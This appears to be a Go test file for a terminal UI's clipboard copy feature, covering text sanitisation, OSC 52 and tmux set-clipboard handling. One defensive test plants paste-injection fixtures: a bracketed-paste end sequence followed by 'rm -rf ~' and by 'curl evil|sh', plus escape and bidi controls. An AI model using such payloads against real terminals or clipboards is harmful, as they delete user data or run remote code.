package tui

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	uv "github.com/charmbracelet/ultraviolet"
	"github.com/charmbracelet/x/ansi"
	"github.com/triage-dev/triage/model"
)

// pasteEnd is the bracketed-paste end sequence: pasted into a terminal that brackets
// pastes, what follows it runs as if typed.
const pasteEnd = "\x1b[201~"

// clipboardTexts returns the texts a Cmd tree puts on the clipboard: tea.SetClipboard's
// message, and the base64 payload of any raw OSC 52 sequence (tmux and screen passthrough).
func clipboardTexts(t *testing.T, cmd tea.Cmd) []string {
	t.Helper()
	return clipboardTextsOf(t, cmdMsgs(t, cmd))
}

// clipboardTextsOf is clipboardTexts of the messages a Cmd gave.
func clipboardTextsOf(t *testing.T, msgs []tea.Msg) []string {
	t.Helper()
	var out []string
	osc52 := regexp.MustCompile(`\]52;c;([A-Za-z0-9+/=]*)`)
	for _, msg := range msgs {
		name := strings.ToLower(typeName(msg))
		switch {
		case strings.Contains(name, "clipboard"):
			out = append(out, fmt.Sprint(msg))
		case strings.Contains(name, "raw"):
			for _, m := range osc52.FindAllStringSubmatch(fmt.Sprint(msg), -1) {
				b, err := base64.StdEncoding.DecodeString(m[1])
				if err != nil {
					t.Fatalf("bad OSC 52 payload %q: %v", m[1], err)
				}
				out = append(out, string(b))
			}
		}
	}
	return out
}

// checkCopied fails unless every clipboard text of cmd is want, sanitised: no ESC, no other
// C0 control but tab and newline, no C1 control, no bidi control.
func checkCopied(t *testing.T, where string, cmd tea.Cmd, want string) {
	t.Helper()
	texts := clipboardTexts(t, cmd)
	if len(texts) == 0 {
		t.Fatalf("%s: nothing was copied", where)
	}
	for _, s := range texts {
		for _, r := range s {
			if r != '\n' && r != '\t' && model.Unsafe(r) {
				t.Errorf("%s: copied U+%04X: %q", where, r, s)
				break
			}
		}
		if s != want {
			t.Errorf("%s: copied %q, want %q", where, s, want)
		}
	}
}

// `y` copies sanitised text (invariant 9): a cell can't put a bracketed-paste end, an escape
// sequence, a C1 control or a bidi override on the user's clipboard. A message keeps its
// newlines and tabs.
func TestCopySanitises(t *testing.T) {
	evilID := "id-" + pasteEnd + "rm -rf ~\u009b\u202e"
	message := "line one\n\tindented " + pasteEnd + "curl evil|sh\x1b]0;t\x07\nrtl\u2066x\u2069"
	wb := testWorkbook(t)
	rows := inboxRows()
	rows[1][5] = evilID
	rows[1][3] = message
	wb.Tabs[0] = mustDecode(t, model.RoleInbox, rows)

	for _, tmux := range []bool{false, true} {
		m := newLoaded(t, wb, 100, 30)
		m.c.term.tmux = tmux
		where := fmt.Sprintf("tmux=%v", tmux)

		checkCopied(t, where+" y in the table", send(m, press("y")), model.SanitizeText(evilID))

		keys(m, "enter")
		for i := 0; i < len(m.detail.fields); i++ {
			if f, _ := m.detail.focused(); f.label == "Message" {
				break
			}
			keys(m, "tab")
		}
		if f, _ := m.detail.focused(); f.label != "Message" {
			t.Fatalf("can't focus the Message field (at %q)", f.label)
		}
		want := "line one\n\tindented ␛[201~curl evil|sh␛]0;t␇\nrtl⇄x⇄"
		checkCopied(t, where+" y on the message", send(m, press("y")), want)
	}
}

func TestCopy(t *testing.T) {
	m := newLoaded(t, testWorkbook(t), 80, 24)
	cmd := send(m, press("y"))
	if cmd == nil || !strings.Contains(plainScreen(m), "copied ID msg-000") {
		t.Errorf("y copies the ID and says so:\n%s", plainScreen(m))
	}
	if !containsMsg(t, cmd, func(msg tea.Msg) bool { return strings.Contains(strings.ToLower(typeName(msg)), "clipboard") }) {
		t.Errorf("y should return tea.SetClipboard's message")
	}
	keys(m, "enter", "j", "j")
	f, _ := m.detail.focused()
	cmd = send(m, press("y"))
	if cmd == nil || !strings.Contains(plainScreen(m), "copied "+f.label) {
		t.Errorf("y in the detail view copies the focused field %q:\n%s", f.label, plainScreen(m))
	}
}

// o in the demo says there is no sheet to link to, instead of copying a link to nothing.
func TestDemoCopyLinkSaysNoSheet(t *testing.T) {
	m := newLoaded(t, testWorkbook(t), 100, 30, func(o *Options) { o.Demo = true })
	cmd := send(m, press("o"))
	if !strings.Contains(toastTexts(m), "it has no Google Sheets link") {
		t.Errorf("toast: %q", toastTexts(m))
	}
	for _, msg := range cmdMsgs(t, cmd) {
		if typeName(msg) != "tui.toastExpiredMsg" {
			t.Errorf("o in the demo copies nothing, got %T", msg)
		}
	}
}

// Inside tmux that drops OSC 52 (set-clipboard off, or external: tmux's default, which
// takes the clipboard from its own copy mode only; no passthrough), y and m must not claim a copy:
// a copy waits for tmux's answer, and while tmux drops copies each one asks again, so the
// advice (`tmux set -g set-clipboard on`) works at the next copy, without a restart. A tmux
// that passes it on (set-clipboard on, or allow-passthrough on/all) is asked once.
func TestTmuxClipboardOffIsSaid(t *testing.T) {
	for _, c := range []struct {
		setClipboard, passthrough string
		off                       bool
	}{
		{"off", "off", true}, {"external", "off", true}, {"external", "", true},
		{"on", "off", false}, {"off", "on", false}, {"external", "on", false}, {"external", "all", false},
	} {
		dir := t.TempDir()
		bin := filepath.Join(dir, "tmux")
		tmuxSays := func(setClipboard, passthrough string) {
			script := "#!/bin/sh\ncase \"$3\" in\nset-clipboard) echo " + setClipboard + ";;\nallow-passthrough) echo " + passthrough + ";;\n*) exit 1;;\nesac\n"
			if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		tmuxSays(c.setClipboard, c.passthrough)
		m := newLoaded(t, testWorkbook(t), 100, 30, func(o *Options) { o.Tmux = bin })
		send(m, tea.EnvMsg(uv.Environ([]string{"TERM=screen-256color", "TMUX=/tmp/tmux-1000/default,1,0"})))
		// copyWith presses k, answers tmux's question the way tmux answers it, and returns
		// whether tmux was asked and the texts sent to the clipboard.
		copyWith := func(k string) (asked bool, texts []string) {
			t.Helper()
			msgs := cmdMsgs(t, send(m, press(k)))
			texts = clipboardTextsOf(t, msgs)
			for _, msg := range msgs {
				if _, ok := msg.(tmuxClipMsg); ok {
					asked = true
					texts = append(texts, clipboardTexts(t, send(m, msg))...)
				}
			}
			return asked, texts
		}
		asked, texts := copyWith("y")
		if !asked {
			t.Fatalf("%+v: the first copy in tmux doesn't ask tmux", c)
		}
		if got := strings.Contains(toastTexts(m), "tmux drops the clipboard sequence (set-clipboard "+c.setClipboard+")"); got != c.off {
			t.Errorf("%+v: toasts %q", c, toastTexts(m))
		}
		if c.off == (len(texts) > 0) || c.off == strings.Contains(toastTexts(m), "copied ID") {
			t.Errorf("%+v: sent %q, toasts %q", c, texts, toastTexts(m))
		}
		m.toasts.items = nil
		asked, texts = copyWith("y")
		if asked != c.off {
			t.Errorf("%+v: asked again %v: tmux is asked again while it drops copies, and only then", c, asked)
		}
		if c.off == (len(texts) > 0) {
			t.Errorf("%+v: a later copy sent %q", c, texts)
		}
		// m (reply) copies a mailto: link the same way; its question says whether the link
		// is on the clipboard, and is asked either way.
		m.toasts.items = nil
		keys(m, "j") // msg-001, Grace Hopper, new
		_, texts = copyWith("m")
		d, ok := m.dialog.(confirm)
		if !ok {
			t.Fatalf("%+v: m opened no question (dialog %T), toasts %q", c, m.dialog, toastTexts(m))
		}
		body := ansi.Strip(d.View())
		if c.off && (len(texts) != 0 || strings.Contains(body, "on the clipboard") || !strings.Contains(body, "Nothing was copied") || !strings.Contains(toastTexts(m), "set -g set-clipboard on")) {
			t.Errorf("%+v: m sent %q, toasts %q, question:\n%s", c, texts, toastTexts(m), body)
		}
		if !c.off && (len(texts) == 0 || !strings.Contains(toastTexts(m), "copied a mailto: reply") || !strings.Contains(body, "on the clipboard")) {
			t.Errorf("%+v: m sent %q, toasts %q, question:\n%s", c, texts, toastTexts(m), body)
		}
		keys(m, "esc")
		if !c.off {
			continue
		}
		// The person follows the advice: the next copy goes out, no restart needed.
		tmuxSays("on", c.passthrough)
		m.toasts.items = nil
		if _, texts := copyWith("y"); len(texts) == 0 || !strings.Contains(toastTexts(m), "copied ID") {
			t.Errorf("%+v: after set-clipboard on, y sent %q, toasts %q", c, texts, toastTexts(m))
		}
	}
}
